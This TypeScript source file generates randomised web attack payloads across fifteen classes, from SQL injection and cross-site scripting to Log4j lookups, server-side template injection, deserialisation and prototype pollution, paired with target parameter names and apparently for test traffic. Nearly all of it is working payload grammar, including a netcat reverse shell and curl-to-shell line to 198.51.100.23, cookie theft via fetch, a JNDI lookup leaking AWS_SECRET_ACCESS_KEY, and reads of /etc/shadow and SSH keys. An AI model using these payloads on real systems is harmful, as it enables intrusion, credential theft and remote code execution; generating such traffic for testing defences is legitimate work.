// biome-ignore-all lint/suspicious/noTemplateCurlyInString: lookups and templates are written so.
/** Grammars of attacks in requests, by class. None of the texts was taken from elsewhere. */
import {
  CODE_DISGUISES,
  type Disguise,
  LOOKUP_DISGUISES,
  MARKUP_DISGUISES,
  PATH_DISGUISES,
  PLAIN_DISGUISES,
  SCRIPT_DISGUISES,
  SHELL_DISGUISES,
  SQL_DISGUISES,
} from './disguises.ts';
import type { Random } from './random.ts';

export interface AttackClass {
  name: string;
  /** Names of parameters that such attacks go for; whole queries when `isQuery`. */
  parameters: readonly string[];
  isQuery?: boolean;
  /** Header fields that carry it as well. */
  headers?: readonly ('agent' | 'referrer')[];
  disguises: readonly Disguise[];
  payload(random: Random): string;
}

const list = (text: string): readonly string[] => text.split(' ');
const NAMES = list('id item page q cat name sort view lang ref user key code type filter');
const FILES = list(
  '/etc/passwd /etc/shadow /etc/hosts /proc/self/environ /etc/group /var/log/apache2/access.log /etc/ssh/sshd_config /root/.bash_history /proc/version /etc/nginx/nginx.conf /windows/win.ini /home/www/.ssh/id_rsa',
);
const COMMANDS = [
  'id',
  'whoami',
  'uname -a',
  'cat /etc/passwd',
  'ls -la /',
  'wget http://198.51.100.23/x.sh',
  'curl http://198.51.100.23/x|sh',
  'ping -c 3 198.51.100.23',
  'nc 198.51.100.23 4444 -e /bin/sh',
  'sleep 5',
  'python3 -c "import os"',
  'head /etc/hosts',
  'tail -n 5 /etc/shadow',
  'nslookup x.example.com',
  'ifconfig',
  'hostname',
  'ps aux',
  'env',
  'rm -rf /tmp/x',
  'bash -i',
];
const HOSTS = [
  '169.254.169.254/latest/meta-data/',
  '127.0.0.1:8080/admin',
  'localhost/server-status',
  '10.0.0.5:9200/_cat',
  '192.168.1.1/',
  '172.16.4.2:2375/version',
  '[::1]:6379/',
  'metadata.google.internal/computeMetadata/v1/',
  '0.0.0.0:5000/',
];

function sql(random: Random): string {
  const value = random.pick(['1', '-1', '42', 'x', '', '1)', 'abc']);
  const quote = random.pick(["'", '"', '', "')", "'))"]);
  const tail = random.pick(['-- -', '#', '--', '-- x', '/*', ';--']);
  const start = /^\d|^-|^$/.test(value) || quote !== '' ? `${value}${quote}` : `${value}'`;
  const query = random.pick([
    'user()',
    'version()',
    '@@version',
    'database()',
    '(select password from users limit 1)',
  ]);
  const condition = random.pick([
    '1=1',
    '7>3',
    "'a'='a",
    '2 between 1 and 3',
    '1 in (1,2)',
    "'x' like 'x",
    'exists(select 1 from users)',
    'length(database())>4',
    'not 1=2',
    'ascii(substr(user(),1,1))>64',
    '1 is not null',
  ]);
  switch (random.number(10)) {
    case 0:
    case 1:
      return `${start} union ${random.pick(['', 'all ', 'distinct '])}select ${random.pick(['1,2,3', 'null,null', `1,${query},3`, "'a','b'", 'table_name from information_schema.tables', 'login,pass from accounts'])}${tail}`;
    case 2:
    case 3:
      return `${start === '' ? "'" : start} ${random.pick(['or', 'and', '||', '&&', 'xor'])} ${condition}${random.once(2) ? tail : ''}`;
    case 4:
      return `${start} ${random.pick(['and', 'or'])} ${random.pick(['sleep(5)', 'benchmark(3000000,md5(1))', '(select 1 from (select sleep(4))a)', '1=(select 1 from pg_sleep(5))', "dbms_pipe.receive_message('a',5)=1"])}${tail}`;
    case 5:
      return `${start}; ${random.pick(['drop table users', "insert into users values(1,'a')", "update users set role='admin' where id=1", "exec xp_cmdshell 'dir'", "waitfor delay '0:0:5'", 'select pg_sleep(5)', 'delete from sessions where 1=1', 'shutdown'])}${tail}`;
    case 6:
      return `${start} and ${random.pick([`extractvalue(1,concat(0x7e,${query}))`, `updatexml(1,concat(0x3a,${query}),1)`, `1=convert(int,${query})`, `1=cast(${query} as int)`, 'row(1,1)>(select count(*),concat(version(),floor(rand(0)*2))x from information_schema.tables group by x)'])}${tail}`;
    case 7:
      return `${start} ${random.pick(['order by 9', 'group by 3 having 1=1', 'procedure analyse()', "into outfile '/var/www/a.txt'", 'limit 1 into @a', 'order by (select 1)'])}${tail}`;
    case 8:
      return random.pick([
        "admin'--",
        "admin' #",
        "' or ''='",
        "x' or 'x'='x",
        "'='",
        `" or ""="`,
        "') or ('1'='1",
        "1' and '1'='2",
        "' or 1 limit 1-- -",
      ]);
    default:
      return random.pick([
        `1 or json_extract('{"a":1}','$.a')=1`,
        `1' or '{"a":1}'::jsonb @> '{"a":1}'-- -`,
        `1 or json_length('{}')<=8`,
        '1 and (select count(*) from users)>0',
        "1' and load_file('/etc/passwd') is not null#",
        '(select case when (1=1) then 1 else 2 end)',
        "1' rlike (select 1)-- -",
        '-1 or if(1=1,sleep(3),0)',
      ]);
  }
}

function script(random: Random): string {
  const call = random.pick([
    'alert(1)',
    'confirm(document.cookie)',
    'prompt`1`',
    "eval(atob('YQ=='))",
    "fetch('//198.51.100.23/'+document.cookie)",
    "import('//x.example/a.js')",
    "location='//x.example'",
    'alert(document.domain)',
    "new Image().src='//x.example/'+document.cookie",
    'print()',
  ]);
  const tag = random.pick(
    list(
      'svg img body video audio details input iframe marquee object a button form select textarea custom-x math style',
    ),
  );
  const handler = random.pick(
    list(
      'onload onerror onclick onmouseover onfocus ontoggle onpointerenter onanimationend oncut onbeforetoggle onscrollend onpageshow onwheel',
    ),
  );
  return random.pick([
    `<script>${call}</script>`,
    `"><script>${call}</script>`,
    `<script src=//x.example/a.js></script>`,
    `<${tag} ${handler}=${call}>`,
    `"><${tag} src=x ${handler}=${call}>`,
    `'><${tag} ${handler}="${call}" autofocus>`,
    `" ${handler}=${call} autofocus x="`,
    `' ${handler}='${call}`,
    `javascript:${call}`,
    `<a href="javascript:${call}">x</a>`,
    `<iframe src="javascript:${call}">`,
    `<iframe srcdoc="<script>${call}</script>">`,
    `'-${call}-'`,
    `';${call}//`,
    `</script><script>${call}</script>`,
    `<math><mtext><img src ${handler}=${call}>`,
    `<object data="data:text/html;base64,PHN2Zz4=">`,
    `<style>@import'//x.example/a.css'</style>`,
    `<base href=//x.example/>`,
    `<meta http-equiv=refresh content="0;url=javascript:${call}">`,
  ]);
}

function path(random: Random): string {
  const file = random.pick(FILES);
  const up = '../'.repeat(2 + random.number(8));
  return random.pick([
    `${up}..${file}`,
    `${up}..${file}`,
    file,
    `/var/www/${up}..${file}`,
    `images/${up}..${file}`,
    `file://${file}`,
    `./${up}..${file}`,
  ]);
}

function command(random: Random): string {
  const run = random.pick(COMMANDS);
  const value = random.pick(['', '1', 'x', '127.0.0.1', 'a.txt', 'example.com']);
  return random.pick([
    `${value};${run}`,
    `${value}|${run}`,
    `${value}||${run}`,
    `${value}&&${run}`,
    `${value}& ${run}`,
    `${value}\n${run}`,
    `$(${run})`,
    `\`${run}\``,
    `${value};${run};`,
    `${value}| ${run} #`,
    `${value}";${run};"`,
    `${value}';${run}#`,
  ]);
}

function dotted(host: string, random: Random): string {
  const found = /^(\d+)\.(\d+)\.(\d+)\.(\d+)/.exec(host);
  if (found === null)
    return host.replace(
      /^localhost/,
      random.pick(['localhost', 'LOCALHOST', 'localhost.', '127.0.0.1.nip.io']),
    );
  const parts = found.slice(1, 5).map(Number);
  const [a = 0, b = 0, c = 0, d = 0] = parts;
  const value = ((a * 256 + b) * 256 + c) * 256 + d;
  const hex = value.toString(16).padStart(8, '0');
  const written = random.pick([
    found[0],
    found[0],
    String(value),
    `0x${hex}`,
    parts.map((part) => `0${part.toString(8)}`).join('.'),
    parts.map((part) => `0x${part.toString(16)}`).join('.'),
    `${a}.${(b * 256 + c) * 256 + d}`,
    `[::ffff:${found[0]}]`,
    `[::ffff:${hex.slice(0, 4)}:${hex.slice(4)}]`,
    `x.example@${found[0]}`,
    `0${value.toString(8)}`,
    [...found[0]].map((character) => (character === '.' ? '\u3002' : character)).join(''),
  ]);
  return `${written}${host.slice(found[0].length)}`;
}

function serverRequest(random: Random): string {
  if (random.once(5)) {
    return random.pick([
      'gopher://127.0.0.1:6379/_INFO',
      'dict://localhost:11211/stats',
      'file:///etc/passwd',
      'ldap://127.0.0.1/x',
      'tftp://198.51.100.23/a',
      'jar:http://127.0.0.1!/a',
      'netdoc:///etc/hosts',
      'sftp://10.0.0.5/',
    ]);
  }
  return `${random.pick(['http://', 'http://', 'https://', '//', 'http:\\\\'])}${dotted(random.pick(HOSTS), random)}`;
}

function template(random: Random): string {
  const [a, b] = [2 + random.number(97), 2 + random.number(97)];
  return random.pick([
    `{{${a}*${b}}}`,
    `\${${a}*${b}}`,
    `#{${a}*${b}}`,
    `<%= ${a}*${b} %>`,
    `{{ ${a}*'${b}' }}`,
    `*{${a}+${b}}`,
    `{%print(${a}*${b})%}`,
    `{% for x in ().__class__.__base__.__subclasses__() %}{% endfor %}`,
    `{% import os %}{{os.popen("id").read()}}`,
    '{{config.items()}}',
    "{{''.__class__.__mro__[1].__subclasses__()}}",
    "{{request['application']['__globals__']}}",
    "{{request|attr('application')}}",
    "{{lipsum.__globals__.os.popen('id').read()}}",
    '{{cycler.__init__.__globals__.os}}',
    "${T(java.lang.Runtime).getRuntime().exec('id')}",
    '<#assign x="freemarker.template.utility.Execute"?new()>${x("id")}',
    "#set($x='')$x.class.forName('java.lang.Runtime')",
    "{{constructor.constructor('return process')()}}",
    '{{_self.env.registerUndefinedFilterCallback("system")}}',
    "{{['id']|filter('system')}}",
    '{php}echo id;{/php}',
    "{system('id')}",
    '{$smarty.version}',
    `@(${a}*${b})`,
    `[[\${${a}*${b}}]]`,
    `__\${new java.util.Scanner(T(java.lang.Runtime).getRuntime().exec("id").getInputStream())}__::x`,
    `<%= system("id") %>`,
    `<%= File.open('/etc/passwd').read %>`,
    `%{(#a=@java.lang.Runtime@getRuntime().exec('id'))}`,
    `{{= ${a}*${b} }}`,
    `{{#with "s" as |string|}}{{/with}}{{lookup . "constructor"}}`,
    `\${self.module.cache.util.os.system("id")}`,
    `{{7*7}}[[5*5]]`,
  ]);
}

function xml(random: Random): string {
  const name = random.word();
  const target = random.pick([
    'file:///etc/passwd',
    'http://198.51.100.23/x.dtd',
    'php://filter/convert.base64-encode/resource=index.php',
    'expect://id',
    'ftp://198.51.100.23/a',
  ]);
  return random.pick([
    `<?xml version="1.0"?><!DOCTYPE ${name} [<!ENTITY x SYSTEM "${target}">]><a>&x;</a>`,
    `<!DOCTYPE ${name} [<!ENTITY % p SYSTEM "${target}">%p;]>`,
    `<!DOCTYPE ${name} SYSTEM "${target}">`,
    `<!DOCTYPE ${name} PUBLIC "-//B/A/EN" "${target}">`,
    `<a xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="${target}"/></a>`,
    `<!ENTITY % ${name} "<!ENTITY &#37; e SYSTEM '${target}'>">`,
    `<xsl:stylesheet xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:value-of select="document('${target}')"/></xsl:stylesheet>`,
  ]);
}

function documentQuery(random: Random): string {
  const field = random.pick(list('user login password email name token id'));
  const value = random.pick(['', '1', 'x', 'admin', '.*', '^a']);
  const operator = random.pick(
    list('ne gt gte lt lte in nin regex exists where not eq or and type mod'),
  );
  return random.pick([
    `${field}[$${operator}]=${value}`,
    `${field}[$${operator}]=${value}&password[$ne]=`,
    `filter={"${field}":{"$${operator}":"${value}"}}`,
    `q={"$${random.pick(['or', 'and', 'nor'])}":[{"${field}":"${value}"},{}]}`,
    `q={"$where":"sleep(5000)"}`,
    `q={ "$where" : "this.${field}.length > 1" }`,
    `${field}=x'||'1'=='1`,
    `${field}=x' || 1==1//`,
    `${field}=x'; return true; var a='`,
    `${field}=';sleep(5000);'`,
    `${field}=x' && this.password.match(/.*/)//`,
    `${field}[${random.pick(list('a b c'))}][$${operator}]=${value}`,
    `filter[where][$${operator}]=${value}`,
  ]);
}

function lookup(random: Random): string {
  const scheme = random.pick(list('ldap ldap ldaps rmi dns iiop corba'));
  return `\${jndi:${scheme}://${random.pick(['198.51.100.23:1389/a', 'x.example.com/${env:AWS_SECRET_ACCESS_KEY}', '127.0.0.1#x.example.com/b', '${hostName}.x.example.com/c'])}}`;
}

function php(random: Random): string {
  const call = random.pick([
    "system('id')",
    'phpinfo()',
    "passthru($_GET['c'])",
    "eval(base64_decode('aWQ='))",
    "shell_exec($_REQUEST['x'])",
    "file_put_contents('x.php','a')",
    "assert($_POST['p'])",
    "call_user_func('system','id')",
    "file_get_contents('/etc/passwd')",
    "exec('whoami')",
    "popen('id','r')",
    "preg_replace('/a/e','b','c')",
    "proc_open('id',[],$p)",
    "array_map('system',array('id'))",
  ]);
  return random.pick([
    `<?php ${call};?>`,
    `<?php ${call}; ?>`,
    `<?=${call}?>`,
    '<?=`id`?>',
    '<?=`$_GET[0]`?>',
    `<? ${call} ?>`,
    `<script language="php">${call};</script>`,
    `\${@${call}}`,
    `;${call};//`,
    `'.${call}.'`,
    `{\${${call}}}`,
    `php://filter/convert.base64-encode/resource=index.php`,
    'php://input',
    'data://text/plain;base64,PD9waHAgcGhwaW5mbygpOz8+',
    'data:text/plain,<?php phpinfo();?>',
    'phar://upload/a.jpg/x',
    'expect://id',
    'zip://a.zip#x.php',
    'O:8:"stdClass":1:{s:1:"a";i:1;}',
    `a:1:{i:0;O:4:"Test":1:{s:1:"x";s:2:"id";}}`,
  ]);
}

function redirect(random: Random): string {
  const host = random.pick(['evil.example', 'x.evil.example/login', 'phish.example/a']);
  return random.pick([
    `/\\${host}`,
    `\\\\${host}`,
    `/\t/${host}`,
    `////${host}`,
    `https:${host}`,
    `https:///${host}`,
    `https://www.example.com@${host}`,
    `https://www.example.com\\@${host}`,
    `/\\/${host}`,
    `javascript:alert(1)`,
    `http:/\\${host}`,
    `//www.example.com@${host}`,
  ]);
}

function lines(random: Random): string {
  const name = random.pick([
    'Set-Cookie: a=b',
    'Location: http://x.example',
    'Content-Length: 0\r\n\r\n<b>',
    'X-Test: 1',
    'Content-Type: text/html',
    'HTTP/1.1 200 OK',
    'Bcc: a@example.com',
    'Transfer-Encoding: chunked',
  ]);
  return `${random.pick(['x', '/home', 'en', ''])}${random.pick(['\r\n', '\n', '\r\n\r\n', '\r', '\u560d\u560a'])}${random.pick(['', ' '])}${name}`;
}

function directory(random: Random): string {
  return random.pick([
    '*)(uid=*',
    '*)(|(uid=*',
    'admin)(&)',
    '*)(objectClass=*',
    'x)(|(password=*)',
    '*))(|(cn=*',
    'admin)(!(&(1=0',
    "' or '1'='1",
    "' or count(/*)=1 or 'a'='b",
    "x' or name()='user' or 'x'='y",
    "'] | //user/*[contains(*,'",
    "' or string-length(//user[1]/password)=8 or '",
    "x']/parent::*/child::node()",
    "' or substring(//user[1],1,1)='a",
  ]);
}

function serialised(random: Random): string {
  return random.pick([
    'rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA',
    'rO0ABXQABHRlc3Q',
    'aced00057372',
    'O:8:"Evil\\Run":1:{s:3:"cmd";s:2:"id";}',
    'a:2:{i:0;O:3:"Foo":0:{}i:1;i:2;}',
    'AAEAAAD/////AQAAAAAAAAAMAgAAAE',
    'H4sIAAAAAAAAAJVSrO0ABXNy_rO0ABXNyAA',
    'gASVIAAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOU',
    "cos\nsystem\n(S'id'\ntR.",
    '!!python/object/apply:os.system ["id"]',
    '!ruby/object:Gem::Installer',
    '!!javax.script.ScriptEngineManager [a]',
    '{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"ldap://x"}',
    '{"rce":"_$$ND_FUNC$$_function(){require(\'child_process\')}()"}',
    'BAhvOgtUZXN0OgpAYQ',
  ]);
}

function pollution(random: Random): string {
  const key = random.pick(list('isAdmin role shell polluted toString'));
  return random.pick([
    `__proto__[${key}]=1`,
    `__proto__.${key}=1`,
    `constructor[prototype][${key}]=1`,
    `constructor.prototype.${key}=1`,
    `a[__proto__][${key}]=1`,
    `a={"__proto__":{"${key}":1}}`,
    `a={"constructor":{"prototype":{"${key}":true}}}`,
    `x=require('child_process').exec('id')`,
    `x=process.mainModule.require('fs')`,
    `x=global.process.env`,
  ]);
}

export const ATTACKS: readonly AttackClass[] = [
  {
    name: 'SQL injection',
    parameters: NAMES,
    headers: ['agent', 'referrer'],
    disguises: SQL_DISGUISES,
    payload: sql,
  },
  { name: 'cross-site scripting', parameters: NAMES, disguises: SCRIPT_DISGUISES, payload: script },
  {
    name: 'file inclusion',
    parameters: list('file page path template doc include lang img dir load'),
    disguises: PATH_DISGUISES,
    payload: path,
  },
  {
    name: 'command execution',
    parameters: list('host ip cmd file name q domain target to arg'),
    disguises: SHELL_DISGUISES,
    payload: command,
  },
  {
    name: 'request forgery',
    parameters: list('url uri src feed target callback image link proxy fetch webhook'),
    disguises: PLAIN_DISGUISES,
    payload: serverRequest,
  },
  { name: 'template injection', parameters: NAMES, disguises: PLAIN_DISGUISES, payload: template },
  {
    name: 'XML entities',
    parameters: list('xml data body doc q soap'),
    disguises: MARKUP_DISGUISES,
    payload: xml,
  },
  {
    name: 'NoSQL injection',
    parameters: [],
    isQuery: true,
    disguises: PLAIN_DISGUISES,
    payload: documentQuery,
  },
  {
    name: 'Log4j lookups',
    parameters: NAMES,
    headers: ['agent', 'referrer'],
    disguises: LOOKUP_DISGUISES,
    payload: lookup,
  },
  {
    name: 'PHP code',
    parameters: NAMES,
    headers: ['agent'],
    disguises: CODE_DISGUISES,
    payload: php,
  },
  {
    name: 'open redirect',
    parameters: list('next url return redirect goto dest continue returnUrl redirect_uri target'),
    disguises: PLAIN_DISGUISES.slice(0, 3),
    payload: redirect,
  },
  {
    name: 'header injection',
    parameters: list('next lang url page ref'),
    disguises: [PLAIN_DISGUISES[0] as Disguise, PLAIN_DISGUISES[1] as Disguise],
    payload: lines,
  },
  {
    name: 'directory and XPath',
    parameters: list('user uid name filter search q'),
    disguises: PLAIN_DISGUISES,
    payload: directory,
  },
  {
    name: 'serialised objects',
    parameters: list('data state session obj token cookie'),
    disguises: PLAIN_DISGUISES.slice(0, 2),
    payload: serialised,
  },
  {
    name: 'prototype pollution',
    parameters: [],
    isQuery: true,
    disguises: PLAIN_DISGUISES,
    payload: pollution,
  },
];
